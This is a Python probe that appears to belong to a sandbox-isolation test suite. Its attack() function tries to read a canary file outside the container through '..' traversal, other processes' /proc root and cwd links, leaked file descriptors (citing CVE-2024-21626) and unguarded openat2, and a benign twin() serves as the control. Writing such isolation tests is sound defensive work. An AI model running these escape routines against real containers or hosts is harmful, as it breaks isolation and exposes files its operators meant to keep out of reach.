"""Reach a file of the machine by every kind of path.

Technique: the plain path; "..", more often than there are directories; the roots and working directories of every process; all
    descriptors that /proc shows, with a way up from each (CVE-2024-21626 was a working directory and a descriptor left outside);
    openat2 without its guards; the magic links in /proc/<pid>/map_files.
Success: the canary file is read.
Stopped by: root_filesystem, own_uid, descriptors
"""
import glob


def attack():
    target = canary["file"]
    up = "/.." * 40
    starts = ["", up, "/proc/self/cwd" + up, "/proc/self/root", "/proc/thread-self/root" + up, "/dev/fd", "/work" + up]
    starts += glob.glob("/proc/[0-9]*/root") + [path + up for path in glob.glob("/proc/[0-9]*/cwd")]
    # Numbers, not a listing: a directory that may not be listed may still be walked through.
    for number in range(256):
        starts += [f"/proc/self/fd/{number}" + up, f"/proc/1/fd/{number}" + up]
    for start in starts:
        try:
            with open(start + target) as file:
                return f"{start}: {file.read(60)}"
        except OSError:
            pass
    # struct open_how: flags, mode, resolve: none of the guards.
    how = (ctypes.c_uint64 * 3)(os.O_RDONLY, 0, 0)
    return os.read(syscall("openat2", -100, (up + target).encode(), how, 24), 60).decode()


def twin():
    """Relative paths, ".." and links that stay inside, and openat2 with a guard."""
    os.makedirs("/work/a/b", exist_ok=True)
    with open("/work/a/b/../../here", "w") as file:
        file.write("text")
    assert os.readlink("/proc/self/cwd") == "/work"
    here = os.open("/work", os.O_RDONLY)
    beneath = (ctypes.c_uint64 * 3)(os.O_RDONLY, 0, 8)
    assert os.read(syscall("openat2", here, b"a/../here", beneath, 24), 9) == b"text"
    os.close(here)
